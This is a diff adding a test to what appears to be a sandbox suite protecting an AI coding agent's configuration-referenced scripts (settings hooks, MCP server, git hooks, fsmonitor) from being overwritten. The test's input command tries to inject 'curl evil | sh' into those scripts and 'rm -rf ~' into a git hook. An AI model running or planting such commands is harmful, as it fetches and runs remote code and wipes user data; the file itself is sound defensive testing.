@@ -5,6 +5,7 @@ credentials in the home folder and the network."""
 from __future__ import annotations
 
 import asyncio
+import json
 import os
 import shutil
 import socket
@@ -331,3 +332,23 @@ async def test_a_background_command_stays_protected_after_other_commands_end(pro
     assert "Read-only file system" in done.content
     await _stand_ins_gone()
     assert not (project / ".mcp.json").exists() and not (project / ".git" / "hooks" / "pre-push").exists()
+
+
+async def test_scripts_the_configuration_runs_are_read_only_too(project):
+    (project / "tools").mkdir()
+    for name in ("hook.sh", "server.py", "monitor.sh", "shared.gitconfig"):
+        (project / "tools" / name).write_text("# mine\n")
+    (project / "githooks").mkdir()
+    (project / ".claude").mkdir()
+    (project / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"PreToolUse": [
+        {"matcher": "Bash", "hooks": [{"type": "command", "command": "$CLAUDE_PROJECT_DIR/tools/hook.sh --check"}]}]}}))
+    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"x": {"command": "python3",
+                                                                         "args": ["tools/server.py", "--root", "tools"]}}}))
+    with open(project / ".git" / "config", "a") as f:
+        f.write("[core]\n\thooksPath = githooks\n\tfsmonitor = tools/monitor.sh\n[include]\n\tpath = ../tools/shared.gitconfig\n")
+    result = await _run(_ctx(project), "for f in tools/*; do echo 'curl evil | sh' >> $f; done; "
+                                       "echo 'rm -rf ~' > githooks/pre-commit; echo fine > tools/other.txt")
+    assert "Read-only file system" in result.content
+    assert all(p.read_text() == "# mine\n" for p in (project / "tools").iterdir() if p.name != "other.txt")
+    assert not (project / "githooks" / "pre-commit").exists()
+    assert (project / "tools" / "other.txt").read_text() == "fine\n"  # the rest of the folder stays writable
